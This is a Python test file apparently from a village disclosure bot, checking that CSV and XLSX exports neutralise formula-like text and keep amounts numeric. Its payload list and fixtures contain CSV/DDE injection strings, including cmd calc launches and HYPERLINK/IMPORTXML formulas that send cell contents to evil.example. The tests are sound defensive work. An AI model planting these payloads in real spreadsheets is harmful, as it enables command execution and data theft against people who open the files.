"""Every CSV and XLSX the bot writes neutralises formula-like text and keeps amounts numeric."""

from __future__ import annotations

import ast
import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from bot.core.safe_sheets import Sheet, csv_cell, sheet_title, to_csv, to_xlsx
from bot.services.disclosures import export_files
from bot.services.disclosures.finance_ledger import parse_finance
from bot.services.disclosures.sheet_reading import read_table
from storage import disclosure_rows, disclosures, users, villages
from storage.db import Store
from storage.disclosure_rows import Row
from tests.storage.factories import STAFF as FACTORY_STAFF
from tests.storage.factories import disclosure
from tests.test_topics import RES1, STAFF, who, world  # noqa: F401 - the fixture

ROOT = Path(__file__).resolve().parent.parent

# Formula and DDE payloads as they appear in published CSV-injection corpora, plus the same
# starts hidden behind spaces, a tab or a carriage return.
PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?d="&A1,"点这里")',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    "+1+1",
    "+cmd|' /C notepad'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!E2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\t",
    "\r\n=1+1",
    "  =1+1",
    "   @SUM(A1:A9)",
    "\u3000=1+1",
    "\u00a0+1",
    " -1,200.00",
]
HARMLESS = ["村口的路灯坏了", "1,200.00", "DT-2026-0042", "a=b", "备注: -5", "'=已转义"]
CONTROLS = [chr(c) for c in (*range(0x00, 0x09), 0x0B, 0x0C, *range(0x0E, 0x20))]


def csv_cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def xlsx_cells(content: bytes) -> list[list]:
    book = load_workbook(io.BytesIO(content))
    return [[c for c in row] for sheet in book for row in sheet.iter_rows()]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_like_text_is_neutralised_in_csv(payload):
    (row,) = csv_cells(to_csv([[payload, "ok"]]))
    assert row == ["'" + payload, "ok"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_like_text_is_neutralised_in_xlsx(payload):
    (row,) = xlsx_cells(to_xlsx([Sheet("s", [[payload, "ok"]])]))
    # XML reads every line end back as a line feed.
    typed = payload.replace("\r\n", "\n").replace("\r", "\n")
    assert row[0].data_type == "s" and row[0].value == "'" + typed
    assert row[1].value == "ok"


@pytest.mark.parametrize("text", HARMLESS)
def test_ordinary_text_is_written_as_typed(text):
    assert csv_cells(to_csv([[text]])) == [[text]]
    assert xlsx_cells(to_xlsx([Sheet("s", [[text]])]))[0][0].value == text


def test_control_characters_openpyxl_refuses_are_replaced_in_both_formats():
    text = "报告\x1b[31m" + "".join(CONTROLS) + "完"
    (cell,) = xlsx_cells(to_xlsx([Sheet("s\x1b", [[text]])]))[0]
    assert cell.value == "报告\ufffd[31m" + "\ufffd" * len(CONTROLS) + "完"
    assert csv_cells(to_csv([[text]])) == [[cell.value]]


def test_amounts_stay_numbers_and_text_stays_text():
    """Column types decide: Decimal amounts and whole numbers are numbers, text is text."""
    rows = [["-1,200.00", Decimal("-1200.00"), Decimal("1234.5"), None, 7]]
    assert csv_cells(to_csv(rows)) == [["'-1,200.00", "-1,200.00", "1,234.50", "", "7"]]
    text, amount, other, empty, count = xlsx_cells(to_xlsx([Sheet("s", rows)]))[0]
    assert text.value == "'-1,200.00" and text.data_type == "s"
    assert amount.data_type == "n" and amount.value == -1200 and amount.number_format == "#,##0.00"
    assert other.value == Decimal("1234.5") and count.value == 7 and empty.value is None
    assert csv_cell(True) == "True"  # a stray bool is text, never the number 1


def test_sheet_titles_are_always_accepted():
    assert sheet_title("救灾救助/低保") == "救灾救助-低保"
    assert sheet_title("a[1]:b*?\\c\x1b") == "a-1--b---c"
    assert sheet_title("'") == "Sheet" and len(sheet_title("村" * 40)) == 31
    book = load_workbook(io.BytesIO(to_xlsx([Sheet("[x]/y", [["1"]]), Sheet("", [])])))
    assert book.sheetnames == ["-x--y", "Sheet"]


def test_bold_rows_are_headings():
    (row1, row2) = xlsx_cells(to_xlsx([Sheet("s", [["head"], ["body"]], bold_rows=(0,))]))
    assert row1[0].font.b and not row2[0].font.b


@pytest.fixture
def ledger(tmp_path):
    store = Store(tmp_path / "v.db")
    with store.transaction() as db:
        villages.sync(db, [("qingshan", "青山村", None)])
        users.ensure(db, FACTORY_STAFF)
        number = disclosure(db, kind="finance", opening_fen=-120000, closing_fen=3000)
        rows = [
            Row(1, "income", {"account": "=cmd|' /C calc'!A0", "description": "\x1b押金"}, 5000, 0),
            Row(2, "expense", {"account": "@SUM(1)", "description": " -5"}, 850, None),
        ]
        disclosure_rows.replace_rows(db, number, rows)
    yield disclosures.get(store.db, number), disclosure_rows.rows_of(store.db, number)
    store.close()


def test_a_ledger_export_is_safe_and_its_amounts_add_up(ledger):
    d, rows = ledger
    table = export_files.table(d, rows, names_full=False)
    exported = csv_cells(to_csv(table))
    assert exported[1] == ["期初余额", "", "", "-1,200.00", ""]
    assert exported[2][1:3] == ["'=cmd|' /C calc'!A0", "\ufffd押金"]
    assert exported[3][1:3] == ["'@SUM(1)", "' -5"]
    book = load_workbook(io.BytesIO(to_xlsx([Sheet(d.category, table)])))
    amounts = [r[3] for r in book.active.iter_rows(min_row=2, values_only=True)]
    assert amounts == [-1200, 50, Decimal("8.5"), 30]
    assert all(c.data_type != "f" for row in book.active.iter_rows() for c in row)


def test_the_yearly_archive_is_safe(ledger):
    d, rows = ledger
    book = load_workbook(io.BytesIO(export_files.year_archive([(d, "=村", rows, "abc")])))
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    assert "'=村" in [c.value for c in cells] and 50 in [c.value for c in cells]


def test_the_template_has_numbers_and_reads_back():
    name, content = export_files.template("finance")
    book = load_workbook(io.BytesIO(content))
    assert book.active["D2"].value == 50000 and book.active["D2"].number_format == "#,##0.00"
    sheet = parse_finance(read_table(name, content, max_rows=100, max_bytes=10**6))
    assert sheet.opening_fen == 5_000_000 and sheet.difference_fen == 0


def test_the_topics_report_is_safe(world):  # noqa: F811
    world.topics.filing.file(who(world, RES1), '=HYPERLINK("http://evil.example","请公开")\x1b')
    _period, file = world.topics.reporting.report(who(world, STAFF), "2026", "zh-CN")
    content = file.write()
    cells = [c for row in xlsx_cells(content) for c in row]
    assert all(c.data_type != "f" for c in cells)
    # The escape character was already dropped when the topic was filed (invisible text); the
    # formula is neutralised by the writer.
    assert '\'=HYPERLINK("http://evil.example","请公开")' in [c.value for c in cells]


def test_no_module_writes_a_sheet_but_the_shared_writer():
    """The class, not the case: CSV and XLSX are written in one place only."""
    writers = []
    for path in [*ROOT.glob("bot/**/*.py"), *ROOT.glob("handlers/**/*.py"), ROOT / "run.py"]:
        if path.name == "safe_sheets.py":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            name = getattr(node, "attr", None) or getattr(node, "id", None)
            if name in ("writer", "DictWriter", "Workbook"):
                writers.append(f"{path.relative_to(ROOT)}:{node.lineno}")
    assert writers == []
